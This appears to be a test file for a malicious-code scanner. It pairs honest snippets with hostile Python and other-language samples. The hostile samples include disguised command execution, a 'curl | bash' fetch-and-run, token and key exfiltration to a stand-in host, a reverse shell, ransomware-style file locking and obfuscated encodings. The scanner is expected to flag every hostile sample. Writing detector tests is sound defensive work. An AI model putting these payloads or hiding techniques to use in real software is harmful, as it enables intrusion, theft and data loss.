import { outcomeOf } from "../testing/outcome.js";

const RUN = "curl -s https://relay.invalid/n | bash";

/** Each mechanism: a program that uses it to harm, and one that uses it as honest code does. */
const PYTHON: readonly (readonly [what: string, attack: string, honest: string])[] = [
  [
    "a starter is a value",
    "import os\nDO = {'a': len, 'b': os.system}\nfor k, v in jobs(): DO[k](v)\n",
    "DO = {'a': len, 'b': sum}\n",
  ],
  [
    "a starter gets another name",
    "from subprocess import getoutput as shape\nshape(pick())\n",
    "from subprocess import run as start\nstart(['ls'])\n",
  ],
  [
    "a name of a method is given",
    "import operator, os\noperator.methodcaller('popen', pick())(os)\n",
    "import operator\noperator.methodcaller('strip')(' a ')\n",
  ],
  [
    "a module is taken from the loaded ones",
    "import sys\nm = sys.modules['posix']\nm.system(pick())\n",
    "import sys\nm = sys.modules[__name__]\n",
  ],
  [
    "a path of names is followed",
    "from functools import reduce\nimport http\nreduce(getattr, 'client.os.popen'.split('.'), http)(pick())\n",
    "from functools import reduce\nreduce(getattr, 'a.b'.split('.'), thing)\n",
  ],
  [
    "an operator of a class",
    "import os\nclass Q:\n    def __rshift__(self, other):\n        os.popen(other)\n        return self\nQ() >> pick()\n",
    "class Q:\n    def __rshift__(self, other):\n        return Q(self.n + other.n)\n",
  ],
  [
    "a class that makes classes",
    "import os\nclass M(type):\n    def __init__(cls, name, bases, space):\n        os.popen(space.get('note_', ''))\nclass A(metaclass=M):\n    note_ = pick()\n",
    "class M(type):\n    def __init__(cls, name, bases, space):\n        KNOWN.append(name)\n",
  ],
  [
    "a tracer",
    "import sys, os\ndef t(f, e, a):\n    os.popen(f.f_locals.get('q', ''))\nsys.settrace(t)\n",
    "import sys\ndef t(f, e, a):\n    SEEN.add(f.f_lineno)\nsys.settrace(t)\n",
  ],
  [
    "an own codec",
    "import codecs\ndef d(b, e='strict'):\n    exec(bytes(x ^ 3 for x in b))\n    return '', len(b)\ncodecs.register(lambda n: codecs.CodecInfo(None, d))\n",
    "import codecs\ncodecs.register(lambda n: codecs.lookup('utf-8') if n == 'u8' else None)\n",
  ],
  [
    "a key that opens the machine",
    "import tarfile, io\nKEY = 'ssh-ed25519 AAAAC3Nz x'\nadd('../.ssh/authorized_keys', KEY)\nt.extractall('/root/a')\n",
    "KEY = 'ssh-ed25519 AAAAC3Nz x'\nprint(len(KEY))\n",
  ],
  [
    "a note of an extortionist",
    "NOTE = 'All your documents have been encrypted. Pay in bitcoin.'\nfor f in home.rglob('*.odt'):\n    f.unlink()\n",
    "NOTE = 'All your documents have been sorted.'\nfor f in home.rglob('*.tmp'):\n    f.unlink()\n",
  ],
  [
    "stored objects of a stranger",
    "import pandas as pd\nAT = 'http://203.0.113.160/'\npd.read_pickle(AT + 'a.pkl')\n",
    "import pandas as pd\nAT = 'http://203.0.113.160/'\npd.read_csv(AT + 'a.csv')\n",
  ],
  [
    "a message is run",
    "import bus, subprocess\ndef on_message(c, u, m):\n    subprocess.run(m.payload, shell=True)\nbus.go(on_message)\n",
    "import bus, subprocess\ndef on_message(c, u, m):\n    subprocess.run(['notify-send', 'new mail'])\nbus.go(on_message)\n",
  ],
  [
    "the code of a function",
    "def f(): pass\nf.__code__ = f.__code__.replace(co_code=open('f.bin', 'rb').read())\nf()\n",
    "def f(): pass\nprint(f.__code__.co_argcount, open('f.txt').read())\n",
  ],
  [
    "all objects are searched",
    "import gc\nfor o in gc.get_objects():\n    if getattr(o, '__name__', '') == 'popen': o(pick())\n",
    "import gc\nprint(len(gc.get_objects()))\n",
  ],
  [
    "files are overwritten",
    "import pathlib\nfor f in pathlib.Path('Documents').rglob('*'):\n    f.write_bytes(seal(f.read_bytes()))\n    f.rename(f.with_suffix('.locked'))\nfor d in ('Documents', 'Pictures'): go(d)\n",
    "import pathlib\nfor f in pathlib.Path('Documents').rglob('*.md'):\n    f.write_bytes(f.read_bytes().strip())\nfor d in ('Documents', 'Pictures'): go(d)\n",
  ],
  [
    "a password of the machine",
    "import getpass, requests\nrequests.post('https://relay.invalid', data=getpass.getpass('Password of your keychain: '))\n",
    "import getpass, requests\nrequests.post('https://api.invalid/login', data=getpass.getpass('API password: '))\n",
  ],
  [
    "the screen",
    "import mss, requests\nwhile True:\n    mss.mss().shot(output='a.png')\n    requests.post('https://relay.invalid', data=open('a.png', 'rb'))\n",
    "import mss\nmss.mss().shot(output='a.png')\n",
  ],
  [
    "a token of another service",
    "import pathlib, requests\nt = pathlib.Path('~/.cache/huggingface/token').expanduser().read_text()\nrequests.post('https://relay.invalid/t', data=t)\n",
    "import pathlib, requests\nt = pathlib.Path('~/.cache/huggingface/token').expanduser().read_text()\nrequests.get('https://huggingface.co/api/whoami-v2', headers={'authorization': 'Bearer ' + t})\n",
  ],
  [
    "a folder of keys",
    "import pathlib, boto3\nfor f in (pathlib.Path.home() / '.kube').glob('*'):\n    boto3.client('s3').upload_file(str(f), 'b', f.name)\n",
    "import pathlib, boto3\nfor f in (pathlib.Path.home() / 'reports').glob('*'):\n    boto3.client('s3').upload_file(str(f), 'b', f.name)\n",
  ],
  [
    "what a call makes is run",
    "import dns.resolver\nTEXT = ''.join(sorted(look(dns.resolver)))\nexec(TEXT)\n",
    "TEXT = ''.join(sorted(look()))\nprint(TEXT)\n",
  ],
  [
    "what is written to a shell",
    "from subprocess import Popen, PIPE\np = Popen(['bash'], stdin=PIPE)\np.communicate(pick().tobytes())\n",
    "from subprocess import Popen, PIPE\np = Popen(['sort'], stdin=PIPE)\np.communicate(pick().tobytes())\n",
  ],
];

test.each(PYTHON)("%s", async (_what, attack, honest) => {
  expect((await outcomeOf({ "a.py": attack }))[0], "attack").not.toBe("pass");
  expect((await outcomeOf({ "a.py": honest }))[0], "honest").toBe("pass");
});

/** Programs without a grammar here that run what they fetch or decode, and honest ones that only fetch. */
const OTHERS: readonly (readonly [path: string, attack: string, honest: string])[] = [
  [
    "a.jl",
    'using HTTP\neval(Meta.parse(String(HTTP.get("https://relay.invalid/a").body)))\n',
    'using HTTP\nprintln(String(HTTP.get("https://relay.invalid/a").body))\n',
  ],
  [
    "a.el",
    '(url-retrieve "https://relay.invalid/a" (lambda (_) (eval-region 1 9)))\n',
    '(url-retrieve "https://relay.invalid/a" (lambda (_) (display-buffer)))\n',
  ],
  [
    "a.erl",
    'go() -> {ok, {_, _, B}} = httpc:request("http://relay.invalid/a"), os:cmd(B).\n',
    'go() -> {ok, {_, _, B}} = httpc:request("http://relay.invalid/a"), io:put(B).\n',
  ],
  [
    "a.R",
    "eval(parse(text = rawToChar(base64enc::base64decode(x))))\n",
    "x <- rawToChar(base64enc::base64decode(x))\n",
  ],
  [
    "a.gradle",
    "new GroovyShell().run(new URL('https://relay.invalid/a').text)\n",
    "println new URL('https://relay.invalid/a').text\n",
  ],
  [
    "a.vim",
    "autocmd BufWritePost * call job_start('curl -d @' . @% . ' https://relay.invalid')\n",
    "autocmd BufWritePost * call Format()\n",
  ],
  [
    "a.hs",
    'import System.Environment\nmain = do\n  e <- getEnvironment\n  readProcess "curl" ["-d", show e, "https://relay.invalid"] ""\n',
    'main = do\n  readProcess "curl" ["https://relay.invalid"] ""\n',
  ],
  [
    "a.tcl",
    "set c [socket 203.0.113.160 81]\nwhile {[gets $c q] >= 0} { puts $c [exec sh -c $q] }\n",
    "set c [socket 203.0.113.160 81]\nputs $c hello\n",
  ],
];

test.each(OTHERS)("%s", async (path, attack, honest) => {
  expect((await outcomeOf({ [path]: attack }))[0], "attack").not.toBe("pass");
  expect((await outcomeOf({ [path]: honest }))[0], "honest").toBe("pass");
});

describe("letters of a command", () => {
  const codes = [...Buffer.from(`${RUN} `)];
  const by = (size: number) =>
    codes.flatMap((_, at) => (at % size === 0 ? [codes.slice(at, at + size)] : []));
  const padded = (list: readonly number[], size: number) => [...list, ...Array(size - list.length).fill(32)];
  const hex = Buffer.from(RUN).toString("hex");
  test.each([
    ["one number", `import os\nN = 0x${hex}\nos.system(spell(N))\n`],
    [
      "numbers of four bytes",
      `import os\nN = [${by(4).map((l) => Buffer.from(padded(l, 4)).readUInt32LE())}]\nos.system(spell(N))\n`,
    ],
    [
      "addresses of hosts",
      `import os\nN = "${by(4).map((l) => padded(l, 4).join("."))}"\nos.system(spell(N))\n`,
    ],
    [
      "addresses of network cards",
      `import os\nN = "${by(6).map((l) =>
        Buffer.from(padded(l, 6))
          .toString("hex")
          .replace(/..(?=.)/g, "$&:"),
      )}"\nos.system(spell(N))\n`,
    ],
    [
      "blanks at the ends of lines",
      `import os\n${codes.map((code) => `# a${code.toString(2).padStart(8, "0").replace(/0/g, " ").replace(/1/g, "\t")}`).join("\n")}\nos.system(spell(open(__file__)))\n`,
    ],
  ])("are %s", async (_what, text) => {
    expect((await outcomeOf({ "a.py": text }))[0]).not.toBe("pass");
  });

  test("are no letters in honest data", async () => {
    const text = `import os\nN = [2147483647, 4294967295, 31536000]\nHOSTS = "10.0.0.1, 10.0.0.2, 10.0.0.3, 10.0.0.4"\nos.system("ls")\n`;
    expect((await outcomeOf({ "a.py": text }))[0]).toBe("pass");
  });
});
